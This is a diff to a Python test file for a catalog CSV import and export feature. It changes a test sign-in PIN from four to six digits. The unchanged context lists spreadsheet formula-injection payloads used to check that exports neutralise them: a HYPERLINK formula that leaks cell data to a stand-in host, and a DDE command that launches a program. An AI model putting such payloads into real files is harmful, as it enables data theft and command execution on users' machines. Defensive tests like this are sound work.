@@ -100,7 +100,7 @@ def test_the_catalog_editor_refuses_a_drawer_kick_in_a_name(store: LocalStore) -
 
 
 def _import(store: LocalStore, data: str | bytes) -> catalog_csv.ImportReport:
-    owner = staff.sign_in(store, "1001", "1111")
+    owner = staff.sign_in(store, "1001", "111111")
     before = _products(store)
     report = catalog_csv.import_csv(store, owner, data)
     assert _products(store) == before  # a bad file imports nothing
@@ -178,7 +178,7 @@ def test_numbers_no_column_holds_are_line_messages(store: LocalStore, cells: str
 
 
 def test_import_file_reports_a_file_it_cannot_read(store: LocalStore, tmp_path: Path) -> None:
-    owner = staff.sign_in(store, "1001", "1111")
+    owner = staff.sign_in(store, "1001", "111111")
     report = catalog_csv.import_file(store, owner, tmp_path / "missing.csv")
     assert [e.line for e in report.errors] == [0]
     assert "cannot be read" in report.errors[0].message
@@ -195,7 +195,7 @@ HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A
 
 
 def test_export_neutralises_formula_cells_and_round_trips(store: LocalStore) -> None:
-    owner = staff.sign_in(store, "1001", "1111")
+    owner = staff.sign_in(store, "1001", "111111")
     with store.db.write() as s:
         products = s.scalars(select(Product).order_by(Product.sku)).all()
         for p, hostile in zip(products, HOSTILE, strict=False):
